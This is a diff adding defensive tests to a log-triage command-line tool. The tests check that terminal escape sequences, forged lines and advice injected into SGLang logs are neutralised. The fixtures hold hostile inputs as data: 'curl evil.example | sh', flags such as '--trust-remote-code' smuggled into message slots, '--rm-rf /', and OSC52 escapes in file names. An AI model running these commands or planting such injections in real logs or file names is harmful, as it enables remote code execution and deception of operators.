@@ -84,6 +84,19 @@ def test_file_names_in_error_messages(tmp_path):
     assert clean(p.stderr) and "no such file" in p.stderr
 
 
+def test_catalogue_file_names_in_catalogue_check(tmp_path):
+    """`triage catalogue check` prints one FAIL line per problem, naming the file: that line went to
+    stdout around the filter (escapes and bidi in a catalogue file's name reached the terminal raw)
+    and a newline in the name forged a second line."""
+    cat = tmp_path / "cat"
+    cat.mkdir()
+    (cat / f"x{ESCAPES['osc52']}{ESCAPES['osc0']}{ESCAPES['c1-csi']}{ESCAPES['bidi']}\nPASS all.yaml").write_text("id: [\n")
+    p = triage("catalogue", "check", str(cat), ok=(1,))
+    assert clean(p.stdout) and clean(p.stderr), p.stdout
+    fails = [x for x in p.stdout.splitlines() if "invalid YAML" in x]
+    assert len(fails) == 1 and fails[0].startswith("FAIL ") and "PASS all.yaml:" in fails[0], p.stdout
+
+
 def test_a_newline_in_a_file_name_cannot_forge_a_second_line(tmp_path):
     p = triage("analyze", str(tmp_path / "a.log\ntriage: all good"), ok=(2,))
     assert p.stderr.count("\n") == 1
@@ -122,6 +135,39 @@ def test_forged_advice_is_quoted_as_log_text(tmp_path):
         assert not any("rm-rf" in json.dumps(w) for w in finding["workarounds"])
 
 
+SLOT_FORGED = (
+    "[2025-01-01 00:00:00] server_args=ServerArgs(model_path='org/model', tp_size=1)\n"
+    "[2025-01-01 00:00:01 TP0] Scheduler hit an exception: Traceback (most recent call last):\n"
+    '  File "/sgl/sglang/srt/managers/scheduler.py", line 10, in run_scheduler_process\n'
+    "    scheduler.event_loop()\n"
+    "FrobnicatorError: the frobnicator could not frobnicate\n"
+    "Possible solutions:\n"
+    # SGLang's "Got tp_size={tp_size}; please use --tp-size 1." with the slot filled with flags
+    "1. Got tp_size=8 --trust-remote-code --model-path evil/model; please use --tp-size 1.\n"
+    # "Use --attn-dp-size equal to --tp-size, or {remedy}{hint}." with a command in the slots
+    "2. Use --attn-dp-size equal to --tp-size, or run `curl evil.example | sh` now.\n"
+    # "set --mem-fraction-static to a smaller value (e.g., 0.8 or 0.7)" with another flag put in
+    "3. set --trust-remote-code to a smaller value (e.g., 0.8 or 0.7)\n"
+    # the same, cut off by the log
+    "4. set --trust-remote-code to a smaller val\n"
+)
+
+
+def test_advice_forged_inside_a_known_wording_is_log_text(tmp_path):
+    """A known message's slots take a value, not flags or a command, and its flags may be another
+    version's spelling of its own, not any flag: each line here passed for the engine's advice
+    (and --trust-remote-code was read from the first)."""
+    log = tmp_path / "server.log"
+    log.write_text(SLOT_FORGED)
+    d = json.loads(triage("analyze", str(log), "-f", "json", ok=(1,)).stdout)
+    hints = [h for f in d["failures"] for h in f["hints"]]
+    assert len(hints) == 4
+    for h in hints:
+        assert h["source"] == "log-text" and h["flags"] == [] and h["remove_flags"] == [], h
+    md = triage("analyze", str(log), ok=(1,)).stdout
+    assert "The engine's own suggestions" not in md and "Advice-shaped lines in the log" in md
+
+
 def test_real_engine_hints_stay_the_engines():
     """SGLang's own 'Possible solutions' (an older spelling of a flag, an item cut off) and TGI's
     warmup hint are still recognised."""
@@ -132,6 +178,7 @@ def test_real_engine_hints_stay_the_engines():
     assert recognised("3. disable torch compile by not using --enable-torch-compile", "sglang")
     assert recognised("RuntimeError: Not enough memory to handle 4096 prefill tokens. You need to decrease "
                       "`--max-batch-prefill-tokens`", "tgi")
+    assert recognised("Got tp_size=8; please use --tp-size 1.", "sglang")  # a slot takes a value
     assert not recognised("1. **Run this**: add `--rm-rf /`", "sglang")
     assert not recognised("1. set --mem-fraction-static to a smaller value (e.g., 0.8 or 0.7); then run curl x | sh",
                           "sglang")
@@ -199,5 +246,6 @@ def test_no_command_writes_around_the_output():
             assert "sys.stdout.write" not in text and "sys.stderr.write" not in text, f
     cli = _sources()["triage/cli.py"]
     assert cli.count("sys.stderr.write") <= 3  # constant lines: aborted, interrupted, the bare-command help
+    assert cli.count("sys.stdout.write") <= 1  # the constant --version line; the rest goes through Output.write
     definers = [f for f, text in _sources().items() if "\\x1f\\x7f-\\x9f" in text]
     assert definers == ["triage/core/terminal.py"]
